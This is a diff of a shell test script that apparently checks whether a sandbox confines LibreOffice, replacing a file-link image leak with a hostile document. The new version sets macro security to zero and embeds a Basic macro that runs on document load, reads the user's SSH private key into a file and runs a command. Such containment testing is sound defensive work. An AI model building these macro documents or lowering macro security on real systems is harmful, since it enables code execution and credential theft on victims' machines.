@@ -14,28 +14,38 @@ works() {
     rm -rf office
 }
 
-attack='a document that shows a private picture by a link'
-goal='stolen'
-denied='read ~/private/picture.pgm'
+# A conversion runs no macros, so the document is opened, by somebody who has allowed them. The program ends with an `Unspecified
+# Application Error` in any case: it is told to end while it is still loading.
+attack='a document whose macro starts a shell (Shell), which copies a private key and starts a program'
+goal='executed'
+denied='execute /usr/bin/touch'
 bait() {
-    mkdir ~/private
-    printf 'P5\n%d 1\n255\n%s' "${#secret}" "$secret" >~/private/picture.pgm  # its grey pixels are the secret
+    mkdir -p office/user
+    cat >office/user/registrymodifications.xcu <<'SETTINGS'
+<?xml version="1.0" encoding="UTF-8"?>
+<oor:items xmlns:oor="http://openoffice.org/2001/registry">
+<item oor:path="/org.openoffice.Office.Common/Security/Scripting">
+<prop oor:name="MacroSecurityLevel" oor:op="fuse"><value>0</value></prop></item></oor:items>
+SETTINGS
     cat >~/papers/hostile.fodt <<'ODF'
 <?xml version="1.0" encoding="UTF-8"?>
 <office:document office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.text"
   xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"
-  xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"
-  xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"><office:body><office:text><text:p>
-<draw:frame text:anchor-type="as-char" svg:width="8cm" svg:height="1cm">
-  <draw:image xlink:href="file:///home/you/private/picture.pgm" xlink:type="simple"/></draw:frame>
-</text:p></office:text></office:body></office:document>
+  xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"
+  xmlns:dom="http://www.w3.org/2001/xml-events" xmlns:ooo="http://openoffice.org/2004/office">
+<office:scripts>
+<office:script script:language="ooo:Basic"><ooo:libraries><ooo:library-embedded ooo:name="Standard"><ooo:module ooo:name="Hostile">
+<ooo:source-code>
+Sub Main
+  On Error Resume Next
+  Shell("/bin/sh", 0, "-c 'cd /home/you/work; read key &lt;../.ssh/id_ed25519; echo $key >stolen; touch executed'", True)
+  StarDesktop.terminate()
+End Sub
+</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></office:script>
+<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:type="simple"
+  xlink:href="vnd.sun.star.script:Standard.Hostile.Main?language=Basic&amp;location=document"/></office:event-listeners>
+</office:scripts>
+<office:body><office:text><text:p>Dear reader</text:p></office:text></office:body></office:document>
 ODF
 }
-attack() {
-    office 'pdf:writer_pdf_Export:{"UseLosslessCompression":{"type":"boolean","value":"true"}}' ~/papers/hostile.fodt
-    pdfimages hostile.pdf picture
-    for picture in picture-*; do python3 -c '
-import re, sys
-pixels = re.sub(rb"^P6\s+\d+ \d+\s+255\s", b"", open(sys.argv[1], "rb").read())
-open("stolen", "wb").write(bytes(pixel + 1 for pixel in pixels[::3]))' "$picture"; done  # each pixel comes out darker by one
-}
+attack() { $ward libreoffice -env:UserInstallation="file://$PWD/office" --headless ~/papers/hostile.fodt; }
